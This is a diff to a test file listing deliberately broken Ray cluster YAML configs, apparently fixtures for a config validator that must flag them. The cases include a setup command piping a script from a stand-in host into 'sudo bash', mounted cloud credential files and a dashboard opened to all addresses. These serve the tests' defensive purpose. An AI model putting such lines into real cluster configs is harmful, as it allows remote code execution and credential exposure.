@@ -18,6 +18,8 @@ BROKEN = [
     ("aws.yaml", "    min_workers: 0\n    max_workers: 40", "    min_workers: 60\n    max_workers: 40", "available_node_types.data-spot.min_workers", "min 60 and max 40"),
     ("aws.yaml", "max_workers: 88", "max_workers: 10", "max_workers", "below the 40 of data-spot"),
     ("aws.yaml", "provider:\n", "provider: [\n", "the file", "cannot be parsed"),
+    ("aws.yaml", "\nhead_setup_commands: []", "", "head_setup_commands", "Ray's own defaults run inside"),
+    ("azure.yaml", "\nsetup_commands: []", "", "setup_commands", "Ray's own defaults run inside"),
     # open doors
     ("aws.yaml", "--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0", "head_start_ray_commands.1", "opens the dashboard"),
     ("aws.yaml", "export RAY_AUTH_MODE=token; ray start --head", "ray start --head", "head_start_ray_commands.1", "without RAY_AUTH_MODE=token"),
@@ -137,10 +139,10 @@ BROKEN = [
     ("aws.yaml", '"~/.ray/auth_token": "~/.ray/auth_token"', '"~/.ray/auth_token": "~/.ray/auth_tokn"', "file_mounts.~/.ray/auth_token", "no token's file"),
     ("aws.yaml", "file_mounts:\n", 'file_mounts:\n  "~/.aws/credentials": "~/.aws/credentials"\n', "file_mounts.~/.aws/credentials", "credentials of yours"),
     ("gcp.yaml", "file_mounts:\n", 'file_mounts:\n  "/key.json": "~/.config/gcloud/application_default.json"\n', "file_mounts./key.json", "credentials of yours"),
-    ("aws.yaml", "upscaling_speed", "setup_commands: [pip install torch]\nupscaling_speed", "setup_commands.0", "'torch' unpinned"),
-    ("aws.yaml", "upscaling_speed", "setup_commands: [pip install ray==2.60.0 torch]\nupscaling_speed", "setup_commands.0", "'torch' unpinned"),
-    ("aws.yaml", "upscaling_speed", "setup_commands: [pip install ray==2.9.0]\nupscaling_speed", "setup_commands.0", "nodes must have the same"),
-    ("aws.yaml", "upscaling_speed", 'setup_commands: ["curl -s http://x.example/x.sh | sudo bash"]\nupscaling_speed', "setup_commands.0", "from the network unread"),
+    ("aws.yaml", "\nsetup_commands: []", "\nsetup_commands: [pip install torch]", "setup_commands.0", "'torch' unpinned"),
+    ("aws.yaml", "\nsetup_commands: []", "\nsetup_commands: [pip install ray==2.60.0 torch]", "setup_commands.0", "'torch' unpinned"),
+    ("aws.yaml", "\nsetup_commands: []", "\nsetup_commands: [pip install ray==2.9.0]", "setup_commands.0", "nodes must have the same"),
+    ("aws.yaml", "\nsetup_commands: []", '\nsetup_commands: ["curl -s http://x.example/x.sh | sudo bash"]', "setup_commands.0", "from the network unread"),
     # machines
     ("aws.yaml", "      SubnetIds: [subnet-0123456789abcdef0]\n", "", "node_config.SubnetIds", "which is public"),
     ("aws.yaml", "Encrypted: true", "Encrypted: false", "BlockDeviceMappings.0.Ebs.Encrypted", "set it to true"),
